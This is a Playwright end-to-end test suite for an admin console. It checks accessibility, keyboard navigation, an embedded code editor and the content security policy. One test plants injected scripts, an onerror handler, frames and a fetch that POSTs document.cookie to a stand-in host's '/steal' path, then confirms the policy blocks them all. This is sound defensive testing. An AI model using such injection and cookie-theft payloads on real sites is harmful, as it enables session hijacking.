import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { RunningConsole } from '../support/service/start-console.ts'
import { beginSession, changeLook, goTo, logIn, openPage, reload } from './console-page.ts'
import { tabTo } from './keyboard.ts'
import { faultsAsShown, faultsInAllWidths, LOOKS, putOn, SCREEN_LOOKS } from './looks.ts'
import { openBrowser } from './open-browser.ts'
import { OPENED_PARTS } from './opened-parts.ts'
import { startWholeStack } from './start-test-console.ts'

/** Ends a walk through all screens that hangs. */
const WALK_MS = 1_800_000

let service: RunningConsole
let browser: Browser

beforeAll(async () => {
  service = await startWholeStack()
  browser = await openBrowser()
})
afterAll(async () => {
  await browser?.close()
  await service?.stop()
})

type Watched = {
  readonly page: Page
  /** What the browser refused by the page's policy: `directive: URL`. */
  readonly refused: string[]
  /** URLs outside the service that the page asked for. */
  readonly foreign: string[]
}

/** A page whose refusals and whose requests to others are noted. */
async function watchedPage(): Promise<Watched> {
  const page = await openPage(browser, service.origin)
  const refused: string[] = []
  const foreign: string[] = []
  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const note = Reflect.get(window, 'noteRefusal') as (text: string) => void
      note(`${event.effectiveDirective}: ${event.blockedURI}`)
    })
  })
  page.on('request', (request) => {
    const url = request.url()
    const isOwn = url.startsWith(`${service.origin}/`) || /^(data|blob):/.test(url)
    if (!isOwn) foreign.push(url)
  })
  return { page, refused, foreign }
}

/** The same with a session, of which only the walks through all screens see the login. */
async function pageOf(account: string): Promise<Watched> {
  const watched = await watchedPage()
  await beginSession(watched.page, account)
  return watched
}

/** Adds a legal document and a mail, of which a new service has none. */
async function addTexts(page: Page): Promise<void> {
  const text = { brand: 'art', content: '# Text' }
  for (const [collection, record] of [
    ['legal-documents', { ...text, title: 'Terms', documentType: 'terms' }],
    ['email-templates', { ...text, subject: 'Thanks', templateType: 'order_confirmation' }],
  ] as const) {
    await page.request.post(`/api/${collection}`, {
      data: record,
      headers: { origin: service.origin },
      failOnStatusCode: true,
    })
  }
}

/** What the console's navigation leads to. */
async function screensOf(page: Page): Promise<string[]> {
  await goTo(page, '/admin')
  const links = page.locator('nav a[href^="/admin"], .dashboard a[href^="/admin"]')
  const found = await links.evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''))
  return [...new Set(['/admin', '/admin/account', ...found])]
}

/** Opens a screen and waits until everything is on it. */
async function show(page: Page, path: string): Promise<void> {
  await goTo(page, path)
  await page.waitForLoadState('networkidle')
}

describe('the pages of the console', () => {
  beforeAll(async () => {
    const { page } = await pageOf('super-admin')
    await addTexts(page)
    await page.context().close()
  })

  it.each(SCREEN_LOOKS)(
    'serve every role, keep their policy and send no request elsewhere, on every screen: %j',
    { timeout: WALK_MS },
    async ({ examined, ...look }) => {
      const { page, refused, foreign } = await watchedPage()
      await logIn(page, 'super-admin')
      const faults: object[] = []
      let looked = 0
      const lookAt = async (path: string) => {
        looked += 1
        await changeLook(page, look)
        await show(page, path)
        const found = await faultsInAllWidths(page, { examined })
        faults.push(...found.map((fault) => ({ path, ...look, ...fault })))
      }
      for (const screen of await screensOf(page)) {
        await lookAt(screen)
        const record = page.locator('table td a[href^="/admin/collections/"]').first()
        if ((await record.count()) > 0) await lookAt((await record.getAttribute('href')) ?? '')
      }
      expect(looked).toBeGreaterThan(25)
      expect(faults, JSON.stringify(faults, null, 2)).toEqual([])
      expect({ refused, foreign }).toEqual({ refused: [], foreign: [] })
      await page.context().close()
    },
  )

  it.each(SCREEN_LOOKS)(
    'serve everybody with what opens on them, too: %j',
    { timeout: WALK_MS },
    async ({ examined, ...look }) => {
      const { page } = await pageOf('super-admin')
      const faults: object[] = []
      for (const width of examined) {
        for (const { path, parts } of OPENED_PARTS) {
          await putOn(page, { ...look, width })
          await show(page, path)
          for (const { title, open, shown, within = shown } of parts) {
            await open(page)
            await page.locator(shown).first().waitFor()
            const { axe, overflow } = await faultsAsShown(page, within)
            if (axe.length > 0 || overflow > 0)
              faults.push({ title, path, ...look, width, axe, overflow })
          }
        }
      }
      expect(faults, JSON.stringify(faults, null, 2)).toEqual([])
      await page.context().close()
    },
  )

  it('lead from the dashboard to a record that is changed and saved, by the keyboard alone', async () => {
    const { page } = await pageOf('super-admin')
    await show(page, '/admin')
    await tabTo(page.getByRole('link', { name: 'Show all Brands' }))
    await page.keyboard.press('Enter')
    await tabTo(page.locator('#toggle-list-columns'))
    await page.keyboard.press('Enter')
    await tabTo(page.getByRole('checkbox', { name: 'Domain' }))
    await page.keyboard.press('Enter')
    await page.locator('#heading-domain').waitFor({ state: 'detached' })
    await tabTo(page.getByRole('link', { name: 'Pet', exact: true }))
    await page.keyboard.press('Enter')
    await page.locator('html[data-console-ready] #field-domain').waitFor()
    await tabTo(page.getByRole('textbox', { name: 'Domain' }))
    await page.keyboard.type('pet.example')
    await tabTo(page.getByRole('combobox', { name: 'Status' }))
    await page.keyboard.type('active')
    await page.keyboard.press('Enter')
    await tabTo(page.locator('#brand-json > summary'))
    await page.keyboard.press('Enter')
    // The editor lets go of the focus, forwards and back.
    await tabTo(page.getByRole('textbox', { name: 'Configuration' }))
    await tabTo(page.locator('#action-save'), true)
    await page.keyboard.press('Enter')
    await page.getByText('Updated successfully.').waitFor()
    await reload(page)
    expect(await page.locator('#field-domain').inputValue()).toBe('pet.example')
    await page.locator('#field-status').filter({ hasText: 'active' }).waitFor()
    await page.context().close()
  })

  it('lead by the keyboard alone through the menu of a narrow window, in Japanese', async () => {
    const { page } = await pageOf('super-admin')
    await putOn(page, { language: 'ja', theme: 'light', width: 375 })
    await show(page, '/admin')
    await tabTo(page.getByRole('banner').getByRole('button', { name: 'メニュー' }))
    await page.keyboard.press('Enter')
    await tabTo(page.getByRole('link', { name: 'ユーザー', exact: true }))
    await page.keyboard.press('Enter')
    await tabTo(page.getByRole('link', { name: 'Haru Photo' }))
    await page.keyboard.press('Enter')
    const role = page.getByRole('checkbox', { name: 'Photoの管理者' })
    await tabTo(role)
    await page.keyboard.press('Space')
    expect(await role.isChecked()).toBe(false)
    await page.context().close()
  })

  it('let the keyboard alone remove a value that could also be dragged, in Japanese', async () => {
    const { page } = await pageOf('super-admin')
    await putOn(page, { language: 'ja', theme: 'light', width: 375 })
    await show(page, '/admin/collections/service-accounts/create')
    await tabTo(page.getByRole('combobox', { name: '権限' }))
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    await page.locator('.rs__multi-value').waitFor()
    await tabTo(page.getByRole('button', { name: '削除' }), true)
    await page.keyboard.press('Space')
    await page.locator('.rs__multi-value').waitFor({ state: 'detached' })
    expect(await page.getByRole('combobox', { name: '権限' }).count()).toBe(1)
    await page.context().close()
  })

  it('name fields in the language of the current user, not of an earlier one', async () => {
    const { page } = await pageOf('super-admin')
    for (const { language, name } of [
      { language: 'ja', name: '設定' },
      { language: 'en', name: 'Configuration' },
      { language: 'ja', name: '設定' },
    ] as const) {
      await changeLook(page, { language })
      await goTo(page, '/admin/collections/brands/pet')
      await page.locator('#brand-json > summary').click()
      await page.getByRole('textbox', { name, exact: true }).waitFor()
      expect(await page.locator('label[for=field-config]').textContent()).toBe(name)
    }
    await page.context().close()
  })

  it('have an editor for code of their own, which a person types into', async () => {
    const { page, refused, foreign } = await pageOf('super-admin')
    await goTo(page, '/admin/collections/email-templates/create')
    const editor = page.locator('.monaco-editor textarea, .monaco-editor .native-edit-context')
    await editor.first().waitFor({ state: 'attached' })
    await page.locator('.monaco-editor .view-lines').first().click()
    await page.keyboard.type('Terms of use')
    await page.locator('.view-lines').filter({ hasText: 'Terms' }).waitFor()
    await page.waitForLoadState('networkidle')
    expect({ refused, foreign }).toEqual({ refused: [], foreign: [] })
    await page.context().close()
  })

  it('say so where the editor does not come, and leave the other fields alone', async () => {
    const { page } = await pageOf('super-admin')
    await page.route('**/monaco/**', (route) => route.abort())
    await goTo(page, '/admin/collections/email-templates/create')
    await page
      .getByRole('alert')
      .filter({ hasText: 'The editor for this field could not be loaded.' })
      .waitFor()
    expect(await page.locator('#field-subject').isEditable()).toBe(true)
    await page.context().close()
  })

  it('show the editor to everybody', async () => {
    const { page } = await pageOf('super-admin')
    for (const look of LOOKS) {
      await putOn(page, look)
      await goTo(page, '/admin/collections/email-templates/create')
      await page.locator('.monaco-editor .view-lines').first().click()
      await page.keyboard.type('ご注文')
      const { axe, overflow } = await faultsAsShown(page, '.code-field')
      expect({ ...look, axe, overflow }).toEqual({ ...look, axe: [], overflow: 0 })
    }
    await page.context().close()
  })

  it('run no script, load no picture and no frame, and send nothing that is not theirs', async () => {
    const { page, refused } = await pageOf('artist')
    await show(page, '/admin')
    const stranger = 'https://stranger.example'
    await page.evaluate(async (origin) => {
      const add = (html: string) => {
        const range = document.createRange().createContextualFragment(html)
        document.body.append(range)
      }
      add('<script>window.planted = "inline"</script>')
      add(`<script src="${origin}/a.js"></script>`)
      add('<img src="x" onerror="window.planted = \'handler\'">')
      add(`<img src="${origin}/a.png">`)
      add(`<iframe src="${origin}/"></iframe>`)
      add('<object data="/admin" type="text/html"></object>')
      await fetch(`${origin}/steal`, { method: 'POST', body: document.cookie }).catch(() => null)
    }, stranger)
    const violations = () => [...new Set(refused)].sort()
    const planted = [
      `connect-src: ${stranger}/steal`,
      `frame-src: ${stranger}`,
      `img-src: ${stranger}/a.png`,
      `object-src: ${service.origin}/admin`,
      'script-src-attr: inline',
      `script-src-elem: ${stranger}/a.js`,
      'script-src-elem: inline',
    ]
    await expect.poll(violations).toEqual(planted)
    const ran = await page.evaluate(async () => {
      // In a task of the page: what a debugger itself evaluates may evaluate text.
      await new Promise((done) => setTimeout(done))
      try {
        Reflect.get(window, 'eval')('window.planted = "eval"')
      } catch {
        // What is refused is looked at below.
      }
      return Reflect.get(window, 'planted') ?? null
    })
    expect(ran).toBeNull()
    await expect.poll(violations).toEqual([...planted, 'script-src: eval'])
    await page.context().close()
  })

  it('are shown in no frame, not even in their own', async () => {
    const { page } = await pageOf('artist')
    await show(page, '/admin')
    const path = '/admin/account'
    const refusal = page.waitForEvent('console', (message) =>
      message.text().includes('frame-ancestors'),
    )
    const answered = page.waitForResponse((response) => response.url().endsWith(path))
    await page.evaluate((src) => {
      const element = document.createElement('iframe')
      element.src = src
      document.body.append(element)
    }, path)
    expect((await answered).status()).toBe(200)
    expect((await refusal).text()).toContain(service.origin)
    expect(await page.frameLocator('iframe').locator('#field-email').count()).toBe(0)
    // The same page in a tab of its own has the field.
    await goTo(page, path)
    await page.locator('#field-email').waitFor()
    await page.context().close()
  })
})
